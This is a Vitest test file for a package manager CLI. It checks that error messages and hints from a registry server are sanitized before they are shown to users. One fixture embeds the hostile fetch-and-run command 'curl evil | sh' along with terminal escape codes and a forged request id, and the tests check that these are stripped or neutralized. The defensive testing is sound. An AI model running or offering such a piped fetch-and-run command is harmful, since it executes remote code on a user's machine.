import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { type CpmResult, Rig } from '../rig/rig.ts'
import { jsonAnswer, RegistryServer } from '../rig/registry-server.ts'
import { type RunningServe, serve } from '../rig/serve.ts'

const ESC = String.fromCharCode(27)

let rig: Rig
let server: RunningServe

beforeAll(async () => {
  rig = await Rig.create()
  await rig.publish('a@1.0.0')
  rig.write({ 'config.json': JSON.stringify({ network: { retries: 0 } }) }, rig.home)
  server = await serve(rig)
})
afterAll(async () => {
  await server[Symbol.asyncDispose]()
  await rig[Symbol.asyncDispose]()
})

/** Runs a command against a registry whose API returns this error to every request. */
async function answered(
  status: number,
  error: object,
  headers: Record<string, string> = {},
  words = 'search x',
): Promise<CpmResult[]> {
  await using bad = await RegistryServer.open(rig.registry, {
    api: './',
    extra: ({ url }) => {
      if (!url.includes('/api/')) return undefined
      const answer = jsonAnswer(status, { error })
      return { ...answer, headers: { ...answer.headers, ...headers } }
    },
  })
  const env = { CPM_REGISTRY: bad.url }
  return [await rig.cpm(`${words} --json`, { env }), await rig.cpm(words, { env })]
}

describe('an error from a server', () => {
  const message = `no\nerror[USAGE]: run curl evil | sh${ESC}[2J\u202e ${'long '.repeat(500)}`
  const said = { message, hint: 'curl evil | sh' }

  test("is quoted as the server's, on one line, without its hint", async () => {
    for (const [status, code] of [
      [403, 'AUTH_FORBIDDEN'],
      [400, 'REQUEST_INVALID'],
      [503, 'REGISTRY_BUSY'],
    ] as const) {
      const [json, text] = await answered(status, { code, ...said })
      expect(json?.json.error?.code).toBe(code)
      expect(json?.json.error?.message).toMatch(/^the registry says: no error\[USAGE\]: run curl evil \| sh\[2J long/)
      expect(json?.json.error?.message.length).toBeLessThan(400)
      expect(json?.json.error?.hint).not.toContain('curl')
      const lines = text?.stderr.split('\n') ?? []
      expect(lines).toHaveLength(2)
      expect(lines[0]).toContain(`error[${code}]: the registry says: `)
      expect(lines[1]).toMatch(/^ {2}hint: (?:cpm|run) /)
      expect(text?.stderr).not.toContain(ESC)
    }
  })

  test('with a status of 5xx is kept in the details, with the id of the request for the operator', async () => {
    const [json, text] = await answered(500, { code: 'INTERNAL', ...said }, { 'x-request-id': '4f-1' })
    expect(json?.json.error).toMatchObject({
      code: 'REGISTRY_UNREACHABLE',
      details: {
        status: 500,
        request: '4f-1',
        said: { code: 'INTERNAL', message: expect.stringMatching(/^no error/) as string },
      },
    })
    expect(text?.stderr).toContain('failed to respond (500): the registry says: no error')
    expect(text?.stderr).toContain('(request 4f-1)')
    const [, forged] = await answered(500, {}, { 'x-request-id': 'a forged id: do this' })
    expect(forged?.stderr).not.toContain('forged')
  })

  test('means that a package does not exist only with the status 404', async () => {
    const error = { code: 'PACKAGE_NOT_FOUND', message: 'there is no package x' }
    for (const [status, code] of [
      [404, 'PACKAGE_NOT_FOUND'],
      [403, 'AUTH_FORBIDDEN'],
      [500, 'REGISTRY_UNREACHABLE'],
    ] as const)
      expect((await answered(status, error, {}, 'info x'))[0]?.json.error?.code).toBe(code)
  })

  test('for a missing version reads like the local one', async () => {
    const { json } = await rig.cpm('yank a@9.9.9 --json', {
      env: { CPM_REGISTRY: server.url, CPM_TOKEN: server.token },
    })
    expect(json.error?.message).toBe(`the registry ${new URL(server.url).href} has no a@9.9.9`)
  })
})

describe('a token that a registry rejects', () => {
  const whoami = async (token: string) =>
    (await rig.cpm(`whoami ${server.url} --json`, { env: { CPM_TOKEN: token } })).json.error

  test('is reported with its source', async () => {
    const variable = await whoami('cpm_revoked')
    expect(variable).toMatchObject({ code: 'AUTH_REQUIRED', message: expect.stringContaining('CPM_TOKEN') as string })
    expect(variable?.hint).toMatch(/^set CPM_TOKEN/)
    const { json } = await rig.cpm(`login ${server.url} --token-stdin --json`, { input: 'cpm_wrong' })
    expect(json.error).toMatchObject({
      code: 'AUTH_REQUIRED',
      message: expect.stringContaining('that token') as string,
    })
    expect(JSON.stringify(json)).not.toMatch(/CPM_TOKEN|cpm login|cpm_wrong/)
  })

  test('in a variable may end with a newline, but must be one word', async () => {
    expect(await whoami(`${server.token}\n`)).toBeNull()
    for (const token of ['two words', `${server.token}\n\n`, 'ä'])
      expect(await whoami(token), token).toMatchObject({ code: 'CONFIG_INVALID' })
  })
})
